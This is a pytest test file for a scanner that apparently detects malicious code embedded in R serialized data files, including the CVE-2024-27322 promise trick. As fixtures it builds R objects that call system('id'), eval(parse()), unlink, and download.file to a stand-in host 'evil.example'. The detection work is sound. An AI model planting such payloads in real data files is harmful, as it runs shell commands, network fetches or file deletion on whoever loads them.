from __future__ import annotations

import contextlib
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.formats.assemble_r import (
    NIL,
    call,
    characters,
    closure,
    environment,
    integer,
    named,
    numbers,
    pairs,
    promise,
    rds,
    reference,
    strings,
    symbol,
    vector,
    workspace,
)

from modelward.core.errors import InputError, LimitExceeded
from modelward.formats.facts import EmbeddedCode
from modelward.formats.rds import begins, calls, walk
from modelward.formats.source import BytesSource

SYSTEM = call("system", strings("id"))


def found(item: bytes, *, version: int = 2) -> list[EmbeddedCode]:
    facts: list[EmbeddedCode] = []
    data = rds(item, version=version)
    assert walk(BytesSource(data), 0, facts.append) == len(data)
    return facts


@pytest.mark.parametrize("version", [2, 3])
def test_promise_that_runs_when_touched_cve_2024_27322(version: int) -> None:
    (fact,) = found(promise(SYSTEM), version=version)
    assert (fact.what, fact.harm) == ("a promise", "runs a shell command")


def test_promise_of_any_call_among_data_is_harmful() -> None:
    (fact,) = found(vector(numbers(1.0), promise(call("f"))))
    assert fact.harm is not None


def test_promise_that_has_its_value_is_data() -> None:
    assert found(promise(SYSTEM, value=numbers(1.0))) == []


def test_promise_in_the_environment_of_a_function_is_unverified() -> None:
    (fact,) = found(environment(pairs(("x", promise(call("f"))))))
    assert fact.harm is None


@pytest.mark.parametrize(
    ("body", "what"),
    [
        (SYSTEM, "runs a shell command"),
        (call("{", call("if", symbol("x"), SYSTEM)), "runs a shell command"),
        (call("do.call", strings("system"), strings("id")), "runs a shell command"),
        (call("eval", call("parse", symbol("x"))), "runs R code"),
        (call("download.file", strings("http://evil.example")), "opens a network connection"),
        (call("lapply", symbol("x"), symbol("unlink")), "reads or writes files"),
    ],
)
def test_function_that_does_harm(body: bytes, what: str) -> None:
    (fact,) = found(named({"predict": closure(body)}))
    assert (fact.what, fact.harm) == ("a function", what)


def test_function_that_computes_is_clean() -> None:
    assert found(closure(call("log", call("/", symbol("mu"), call("-", numbers(1.0), symbol("mu")))))) == []


def test_function_that_calls_others_is_unverified() -> None:
    (fact,) = found(closure(call("their_function", symbol("x"))))
    assert (fact.harm, fact.expression) == (None, "their_function")


def test_compiled_function_is_judged_by_its_constants() -> None:
    bytecode = integer(21, 1) + integer(13, 1, 12) + integer(1, 1) + symbol("system")
    (fact,) = found(closure(bytecode))
    assert fact.harm == "runs a shell command"


def test_active_binding_runs_when_looked_at() -> None:
    frame = pairs(("x", closure(call("sqrt", symbol("y")))), flags=1 << 27)
    (fact,) = found(environment(frame))
    assert fact.what.startswith("an active binding")


def test_vector_of_a_package_is_unverified_and_rs_own_are_clean() -> None:
    def alternative(name: str) -> bytes:
        info = integer(2) + symbol(name) + integer(2) + symbol("base") + integer(2) + integer(13, 1, 13) + NIL
        return integer(238) + info + numbers(10.0, 1.0, 1.0) + NIL

    assert found(alternative("compact_intseq")) == []
    (fact,) = found(alternative("mmap_real"))
    assert "mapped file" in fact.what


@pytest.mark.parametrize(
    "item",
    [
        NIL,
        numbers(1.0, 2.0),
        strings("system('id')", "eval"),
        call("~", symbol("y"), call("+", symbol("x"), SYSTEM)),
        call("lm", call("~", symbol("y"), symbol("x"))),
        vector(symbol("a"), reference(1), environment(NIL), reference(2)),
        named({"coefficients": numbers(1.0), "call": call("glm", symbol("system"))}),
        integer(249, 0, 2) + characters("stats") + characters("4.3.2"),
        integer(24, 3) + b"abc",
        integer(25) + b"",
    ],
    ids=range(10),
)
def test_data_and_formulas_are_clean(item: bytes) -> None:
    assert found(item) == []


def test_long_lists_need_no_stack() -> None:
    many = b"".join(integer(2) + numbers(1.0) for _ in range(50_000)) + NIL
    assert found(many) == []


def test_depth_is_bounded() -> None:
    with pytest.raises(LimitExceeded):
        found(integer(19, 1) * 3000 + NIL)


@pytest.mark.parametrize("item", [reference(3), integer(19, -5), integer(77, 1), integer(16, 1 << 30)])
def test_what_is_not_true_is_said(item: bytes) -> None:
    begun = time.process_time()
    with pytest.raises(InputError):
        found(item)
    assert time.process_time() - begun < 1


def test_beginnings() -> None:
    assert begins(BytesSource(rds(NIL))) == 0
    assert begins(BytesSource(workspace(NIL))) == 5
    assert begins(BytesSource(b"PK\x03\x04")) is None
    assert walk(BytesSource(b"A\nword and more words"), 0, print) is None


def test_calls_in_what_is_no_r_object() -> None:
    (fact,) = calls(BytesSource(b"RDX2\nexpression\nbase::system('id')"), 5)
    assert fact.harm == "runs a shell command"
    assert list(calls(BytesSource(b"RDX2\nthe system (of numbers) is fine"), 5)) != []
    assert list(calls(BytesSource(b"RDX2\nmean(x)"), 5)) == []


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 4000), st.integers(0, 255)), min_size=1, max_size=5), st.booleans())
def test_changed_objects_raise_only_our_errors(changes: list[tuple[int, int]], cut: bool) -> None:
    item = named({"f": closure(SYSTEM), "p": promise(SYSTEM), "e": environment(pairs(("x", numbers(1.0))))})
    data = bytearray(workspace(item))
    for at, value in changes:
        data[at % len(data)] = value
    source = BytesSource(bytes(data[: changes[0][0] % len(data)] if cut else data))
    begin = begins(source)
    if begin is not None:
        with contextlib.suppress(InputError):
            walk(source, begin, lambda fact: None)
